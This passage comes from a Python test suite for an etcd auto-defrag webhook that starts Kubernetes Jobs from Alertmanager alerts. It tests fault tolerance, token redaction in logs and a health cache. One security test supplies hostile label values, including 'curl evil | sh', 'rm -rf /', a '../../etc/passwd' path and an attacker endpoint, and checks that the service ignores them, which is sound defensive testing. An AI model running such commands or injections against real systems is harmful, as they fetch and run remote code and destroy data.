        assert body["status"] == "retry"
        assert outcomes(body) == ["launch_unavailable"]
        if recorded_on_503:  # the create went through after the client gave up: wait for it
            await eventually(lambda: _has_job(fake_kube), timeout=10, what="the late create")
        else:
            assert fake_kube.jobs == {}  # 503 exactly when nothing was recorded
        # Alertmanager retries the 503: now the launch is recorded, once.
        status, body = await post(client, notification(alert("c0")))
        assert status == 200, body
        expected = "skip_already_running" if recorded_on_503 else "launch"
        assert outcomes(body) == [expected]
    assert jobs_per_cluster(fake_kube) == {"c0": 1}
    reliability_counts.add("duplicate_jobs", sum(n - 1 for n in jobs_per_cluster(fake_kube).values()))
    await client.close()  # stops the watch its launch started while its API client is still open


async def _has_job(fake: FakeKube) -> bool:
    return (NAMESPACE, "etcd-autodefrag-c0") in fake.jobs


async def test_two_replicas_a_restart_and_api_faults_create_one_job_per_cluster(
    etcd: EtcdCluster,
    aiohttp_client: ClientFactory,
    fake_kube: FakeKube,
    reliability_counts: Counts,
) -> None:
    """Two replicas on one API server, with faults queued and one replica restarted mid-storm.

    Alertmanager sends each notification to one replica and retries 503s: in the end every cluster has
    exactly one Job, and exactly one answer in all says "launch" for it.
    """
    count = 10
    configured = kube_clusters(etcd, count)
    async with (
        await kube_api_client(host=fake_kube.url) as api_a,
        await kube_api_client(host=fake_kube.url) as api_b,
        await kube_api_client(host=fake_kube.url) as api_c,
    ):
        replica_a = await aiohttp_client(
            create_app(service_settings(), clusters=configured, executor=kube_executor(api_a, timeout=1))
        )
        replica_b = await aiohttp_client(
            create_app(service_settings(), clusters=configured, executor=kube_executor(api_b, timeout=1))
        )
        fake_kube.fail_next(15, 500, match=CREATE)
        fake_kube.fail_next(5, 429, match=CREATE, retry_after="1")
        fake_kube.hang_next(3, match=CREATE)
        fake_kube.delay_next(10, 0.2, match=CREATE)
        fake_kube.fail_next(3, 503, match="GET /apis/batch/v1/")
        reliability_counts.fault("Kubernetes API: storm faults (500, 429, hang, delay, 503 on read)", 36)

        answers: list[tuple[int, Any]] = []

        async def alertmanager(replica: TestClient, cluster: str) -> None:
            """One notification, retried on 503 as Alertmanager does (without its backoff)."""
            for _ in range(20):
                status, body = await post(replica, notification(alert(cluster)))
                answers.append((status, body))
                assert status in (200, 503), body
                if status == 200:
                    return
            pytest.fail(f"cluster {cluster}: still 503 after 20 tries")

        first_wave = [alertmanager(replica_a if i % 2 else replica_b, f"c{i % count}") for i in range(200)]
        await asyncio.gather(*first_wave)
        assert not fake_kube.faults  # every fault queued was hit
        # Replica A restarts (a new process: nothing remembered) while B goes on.
        await replica_a.close()
        reliability_counts.fault("service restart")
        # Without its watch, so that it meets the Jobs as 409s (and the faults below) instead of
        # learning of them from the list, as a restarted replica whose list is slow would.
        replica_a = await aiohttp_client(
            create_app(
                service_settings(),
                clusters=configured,
                executor=kube_executor(api_c, timeout=1, watch=False),
            )
        )
        fake_kube.fail_next(5, 500, match=CREATE)
        reliability_counts.fault("Kubernetes API: 500 after the restart", 5)
        await asyncio.gather(
            *(alertmanager(replica_a if i % 2 else replica_b, f"c{i % count}") for i in range(200))
        )
        assert not fake_kube.faults

    found = [o for status, body in answers if status == 200 for o in outcomes(body)]
    assert jobs_per_cluster(fake_kube) == {f"c{i}": 1 for i in range(count)}
    assert found.count("launch") == count  # one launch answer per Job, none lost, none doubled
    assert set(found) <= {"launch", "skip_already_running"}
    assert any(status == 503 for status, _ in answers)  # the faults were hit
    reliability_counts.add("duplicate_jobs", sum(n - 1 for n in jobs_per_cluster(fake_kube).values()))
    reliability_counts.add("storm_notifications", 400)


# --- security ----------------------------------------------------------------------------------------


async def test_alert_labels_cannot_choose_a_cluster_namespace_image_or_command(
    etcd: EtcdCluster,
    aiohttp_client: ClientFactory,
    fake_kube: FakeKube,
    kube_api: ApiClient,
    reliability_counts: Counts,
) -> None:
    client = await aiohttp_client(
        create_app(service_settings(), clusters=kube_clusters(etcd, 2), executor=kube_executor(kube_api))
    )
    hostile = {
        "namespace": "kube-system",
        "image": "evil.example.com/pwn:latest",
        "command": "sh -c 'curl evil | sh'",
        "args": "--endpoints=https://attacker:2379",
        "job_name": "../../etc/passwd",
        "target_cluster": "tenant-b-prod",
        "node": "control-plane; rm -rf /",
    }
    unconfigured = [
        alert("prod-payments"),
        alert("c0 "),
        alert('c0",etcd_cluster="c1'),
        alert(".*"),
        alert("C0"),
        alert(None, job="kube-etcd"),
    ]
    status, body = await post(client, notification(*unconfigured, alert("c0", **hostile)))
    assert status == 200
    assert outcomes(body) == ["skip_unrouted"] * len(unconfigured) + ["launch"]
    assert list(fake_kube.jobs) == [(NAMESPACE, "etcd-autodefrag-c0")]
    job = fake_kube.job(NAMESPACE, "etcd-autodefrag-c0")
    pod = job["spec"]["template"]["spec"]
    [container] = pod["containers"]
    assert container["image"] == IMAGE
    assert container["args"][:2] == ["defrag", "--cluster-json"]
    assert cluster_from_json(container["args"][2]).name == "c0"
    manifest_text = json.dumps(job)
    for value in ("kube-system", "evil", "attacker", "passwd", "rm -rf", "tenant-b-prod"):
        assert value not in manifest_text, value  # annotations record the trigger, never label values
    assert "hostPath" not in manifest_text
    reliability_counts.add("hostile_alerts_sent", len(unconfigured) + 1)
    reliability_counts.add("hostile_alerts_obeyed", 0)


async def test_tokens_never_reach_the_logs(
    etcd: EtcdCluster, aiohttp_client: ClientFactory, tmp_path: Path, reliability_counts: Counts
) -> None:
    """Every request shape, through the service's own log handler, in text and in JSON, at DEBUG."""
    password = "b4sic-pa55word-n0t-to-be-logged"
    password_file = tmp_path / "password"
    password_file.write_text(password + "\n")
    root = logging.getLogger()
    saved = (root.handlers[:], root.level)
    try:
        for log_format in ("text", "json"):
            stream = io.StringIO()
            logs.configure(fmt=log_format, level="DEBUG", stream=stream)
            webhook = {
                "token": TOKEN,
                "basic_auth_username": "alertmanager",
                "basic_auth_password_file": password_file,
            }
            client = await aiohttp_client(
                create_app(
                    service_settings(webhook=webhook), clusters=clusters(etcd, 2), executor=FakeExecutor()
                )
            )
            near = [TOKEN, TOKEN[:-1], TOKEN + "x", password, password[:-1]]
            headers = [
                *({"Authorization": f"Bearer {t}"} for t in near),
                *({"Authorization": "Basic " + _b64(f"alertmanager:{p}")} for p in near),
                {"Authorization": f"Basic {TOKEN}"},
                {},
            ]
            body = notification(alert("c0"), alert("nope"), alert("c1", status="resolved"))
            for header in headers:
                await post(client, body, header)
            for bad in (b"{", b"[]", b'{"version": "3"}'):
                await client.post("/webhook/alertmanager", data=bad, headers={**AUTH, **JSON})
            await client.get("/webhook/alertmanager", headers=AUTH)
            await client.get("/metrics")
            await client.close()
            logged = stream.getvalue()
            assert "401 unauthorized" in logged  # the log was captured
            assert "launched" in logged
            for secret in (TOKEN, TOKEN[:-1], password, password[:-1], _b64(f"alertmanager:{password}")):
                assert secret not in logged, f"the {log_format} log shows a secret"
            reliability_counts.add("requests_checked_for_secrets_in_logs", len(headers) + 5)
    finally:
        root.handlers[:], level = saved
        root.setLevel(level)
    reliability_counts.add("tokens_in_logs", 0)


# --- the webhook's health cache (found by bench/webhook_storm.py) -----------------------------------


def test_health_is_judged_once_per_snapshot_and_again_for_a_new_one() -> None:
    """The cache never serves an old verdict: a new snapshot (every refresh makes one) is judged anew."""
    from snapshot_source import StaticSnapshots

    from exporter.config.settings import ClusterConfig
    from exporter.core.clock import utcnow
    from exporter.core.snapshot import ClusterSnapshot
    from exporter.service.webhook import HealthCache, health_of

    def refresher(*snapshots: ClusterSnapshot) -> StaticSnapshots:
        clusters = [ClusterConfig(name=s.cluster, endpoints=["http://127.0.0.1:2379"]) for s in snapshots]
        return StaticSnapshots(clusters, snapshots)

    cache: HealthCache = {}
    first = ClusterSnapshot(cluster="c0", taken_at=utcnow(), error="member list: connection refused")
    other = ClusterSnapshot(cluster="c1", taken_at=utcnow(), error="no leader")
    judged = health_of(refresher(first, other), cache)
    assert (judged["c0"].healthy, judged["c0"].problem) == (False, "member list: connection refused")
    assert health_of(refresher(first, other), cache)["c0"] is judged["c0"]  # the same snapshot: cached
    newer = ClusterSnapshot(cluster="c0", taken_at=utcnow(), error="member etcd-1 did not answer")
    assert health_of(refresher(newer, other), cache)["c0"].problem == "member etcd-1 did not answer"
    assert health_of(refresher(newer), cache).keys() == {"c0"}
    assert set(cache) == {"c0"}  # a cluster removed by a reload leaves the cache too
    assert health_of(refresher(first)) == {"c0": judged["c0"]}  # and without a cache, the same verdicts
    # Only the clusters a notification routes to are judged.
    assert health_of(refresher(newer, other), cache, names=["c1", "gone"]).keys() == {"c1"}
